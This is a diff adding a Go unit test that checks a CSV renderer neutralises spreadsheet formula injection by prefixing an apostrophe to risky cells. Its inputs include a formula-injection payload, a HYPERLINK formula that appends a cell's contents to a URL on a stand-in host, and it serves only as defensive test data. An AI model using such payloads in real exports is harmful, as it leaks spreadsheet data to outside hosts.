@@ -336,3 +336,35 @@ func TestCmapRunes(t *testing.T) {
 		}
 	}
 }
+
+// TestCSVCellsNeverRunAsFormulas: a reason typed as a formula is written as
+// text (a leading apostrophe), as is any cell starting with = + - @, a tab or
+// a carriage return; a negative number stays a number.
+func TestCSVCellsNeverRunAsFormulas(t *testing.T) {
+	for _, c := range []struct{ in, want string }{
+		{`=HYPERLINK("http://x.example/?"&A1,"click")`, `'=HYPERLINK("http://x.example/?"&A1,"click")`},
+		{"+1+1", "'+1+1"}, {"-1+1", "'-1+1"}, {"@SUM(A1)", "'@SUM(A1)"}, {"\t=1", "'\t=1"}, {"\r=1", "'\r=1"},
+		{"-12.5", "-12.5"}, {"-3", "-3"}, {"12", "12"}, {"", ""}, {"bag cracked", "bag cracked"}, {"a=b", "a=b"},
+	} {
+		if got := csvCell(c.in); got != c.want {
+			t.Errorf("csvCell(%q) = %q, want %q", c.in, got, c.want)
+		}
+	}
+	r := sample()
+	r.Events[2].Reason = `=HYPERLINK("http://x.example","click")`
+	rows, err := csv.NewReader(strings.NewReader(renderString(t, r, "csv"))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := rows[3][13]; got != `'=HYPERLINK("http://x.example","click")` {
+		t.Errorf("reason cell = %q", got)
+	}
+	r.Data = &Table{Columns: []string{"thaw_to_start_min", "note"}, Rows: [][]string{{"-4.0", "=1+1"}}}
+	rows, err = csv.NewReader(strings.NewReader(renderString(t, r, "csv"))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if rows[1][0] != "-4.0" || rows[1][1] != "'=1+1" {
+		t.Errorf("data row = %q", rows[1])
+	}
+}
